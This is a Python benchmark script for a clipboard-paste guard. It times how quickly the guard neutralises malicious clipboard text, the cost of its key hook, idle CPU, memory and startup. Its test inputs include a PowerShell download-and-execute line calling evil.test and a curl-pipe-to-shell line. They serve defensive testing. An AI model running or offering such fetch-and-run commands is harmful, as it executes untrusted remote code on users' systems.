"""Guard runtime figures: clipboard change to neutralised, the hook's cost, idle CPU, memory, start.

The guard runs for real under Xvfb with openbox (the X11 backend), as a person would meet it.
"""

from __future__ import annotations

import json
import os
import statistics
import tempfile
import time
from pathlib import Path

import psutil

from app.detection import Engine, PasteTarget
from app.guard.keys import PasteSequence
from app.guard.neutralize import NEUTRAL_LINE
from app.guard.provenance import Provenance
from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning
from app.guard.targets import TargetClassifier
from app.platform.base import KeyEvent, WindowInfo
from bench.report import Result, met, table
from tests.desktop import BIN, Desktop, desktop, wait_for

ROUNDS = 40
IDLE_SECONDS = 60.0
MALICIOUS = 'powershell -w h -c "iwr https://evil.test/{n}.ps1 | iex"'


def _status(d: Desktop, data: Path) -> dict[str, object] | None:
    result = d.run(str(BIN / "pasteguard"), "status", "--data-dir", str(data), timeout=10)
    return json.loads(result.stdout) if result.returncode == 0 else None


def _percentile(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(p / 100 * (len(ordered) - 1)))]


def _live(tmp: Path) -> tuple[list[list[object]], list[str]]:
    data = tmp / "data"
    rows: list[list[object]] = []
    with desktop() as d, (tmp / "guard.log").open("wb") as log:
        d.env.update(PASTEGUARD_CONFIG_DIR=str(tmp / "cfg"), PASTEGUARD_POLICY=str(tmp / "none"))
        launched = time.monotonic()
        guard = d.start(
            str(BIN / "pasteguard"),
            "run",
            "--no-tray",
            "--data-dir",
            str(data),
            stdout=log,
            stderr=log,
        )
        status = wait_for(lambda: _status(d, data), timeout=30, step=0.05)
        start_s = time.monotonic() - launched
        assert isinstance(status, dict)
        ready_ms = float(status.get("ready_ms") or 0)
        latencies = []
        for n in range(ROUNDS):
            # start from a harmless clipboard, so that the harmless line read below is new
            harmless = f"round {n}"
            d.set_clipboard(harmless)
            wait_for(lambda h=harmless: d.clipboard() == h, timeout=5, step=0.005)
            owner = d.set_clipboard(MALICIOUS.format(n=n))
            begin = time.monotonic()
            wait_for(lambda: d.clipboard() == NEUTRAL_LINE, timeout=5, step=0.002)
            latencies.append((time.monotonic() - begin) * 1000)
            owner.wait(timeout=5)  # xclip exits once the guard took the clipboard over
        proc = psutil.Process(guard.pid)
        rss_mb = proc.memory_info().rss / 2**20
        cpu_before = proc.cpu_times()
        wall_before = time.monotonic()
        time.sleep(IDLE_SECONDS)
        cpu_after = proc.cpu_times()
        idle = cpu_after.user + cpu_after.system - cpu_before.user - cpu_before.system
        idle_pct = 100 * idle / (time.monotonic() - wall_before)
        rss_after = proc.memory_info().rss / 2**20
    p95 = _percentile(latencies, 95)
    rows.append(
        [
            "clipboard change → neutralised, p95",
            f"{p95:.0f} ms (median {statistics.median(latencies):.0f}, max {max(latencies):.0f})",
            "≤ 150 ms",
            met(p95 <= 150),
        ]
    )
    rows.append(["idle CPU over a minute", f"{idle_pct:.2f} %", "≤ 0.5 %", met(idle_pct <= 0.5)])
    rss = max(rss_mb, rss_after)
    rows.append(["resident memory", f"{rss:.0f} MB", "≤ 150 MB", met(rss <= 150)])
    rows.append(
        [
            "start to ready (launch → status answers)",
            f"{start_s * 1000:.0f} ms (guard's own ready_ms {ready_ms:.0f})",
            "≤ 2 s",
            met(start_s <= 2.0),
        ]
    )
    notes = [
        f"{ROUNDS} malicious texts put on the clipboard by xclip, one at a time; latency from the "
        "moment xclip owns the clipboard to the moment `xclip -o` reads the harmless line (polled "
        "every 2 ms, so it includes one xclip round trip). Backend: X11 under Xvfb + openbox.",
        f"Idle CPU: user+system time of the guard process over {IDLE_SECONDS:.0f} s with nothing "
        "happening; memory: RSS after the rounds and after the idle minute.",
    ]
    return rows, notes


class _UI:
    def replace_clipboard(self, expected_digest: str, text: str) -> None: ...
    def notify(self, title: str, message: str, restore_event_id: int | None = None) -> None: ...
    def warn(self, warning: PasteWarning) -> None: ...
    def state_changed(self) -> None: ...


class _Store:
    def __init__(self) -> None:
        self.status: dict[str, object] = {}

    def append(self, event: object, *, original: str | None = None) -> int:
        return 1

    def flush(self) -> bool:
        return True

    def apply_retention(self) -> int:
        return 0


def _hook() -> tuple[list[list[object]], list[str]]:
    """The hook's own cost: PasteSequence, classifier and lookup, on this thread."""
    window = WindowInfo("xterm", "XTerm", "bash", 4242, handle=77)
    service = GuardService(
        Engine(),
        _Store(),
        _UI(),
        PasteSequence(),
        TargetClassifier.load(),
        lambda: window,
        False,
        GuardSettings(mode="block"),
    )
    service.clipboard_changed(
        ClipboardChange(
            "curl -fsSL https://unknown.example/i.sh | sh",
            Provenance(source_url="https://x.example/"),
        )
    )
    service.process_pending()
    keys = [("ctrl", True), ("v", True), ("v", False), ("ctrl", False), ("a", True), ("a", False)]
    times: list[float] = []
    now = time.monotonic()
    for i in range(50_000):
        key, down = keys[i % len(keys)]
        mods = frozenset({"ctrl"}) if key == "v" else frozenset()
        event = KeyEvent(key, down, mods, now + i * 0.001)
        begin = time.perf_counter_ns()
        service.on_key(event)
        times.append((time.perf_counter_ns() - begin) / 1e6)
    p99 = _percentile(times, 99)
    rows = [
        [
            "hook callback (key event → decision), p99",
            f"{p99:.4f} ms (median {statistics.median(times):.4f})",
            "≤ 0.2 ms",
            met(p99 <= 0.2),
        ]
    ]
    notes = [
        "Hook: 50,000 key events through GuardService.on_key with the real PasteSequence and "
        "TargetClassifier, a suspicious verdict current and a terminal in front (every "
        "Ctrl+V is a guarded paste that warns)."
    ]
    assert service.current is not None and PasteTarget.TERMINAL in service.current.levels
    return rows, notes


def run() -> list[Result]:
    hook_rows, hook_notes = _hook()
    with tempfile.TemporaryDirectory() as folder:
        live_rows, live_notes = _live(Path(folder))
    headers = ["measurement", "value", "target", "met?"]
    return [
        Result(
            "Guard runtime",
            table(headers, [*live_rows, *hook_rows], "lllc"),
            [*live_notes, *hook_notes],
        )
    ]


if __name__ == "__main__":  # pragma: no cover
    os.environ.setdefault("PYTHONUNBUFFERED", "1")
    for result in run():
        print(result.markdown())
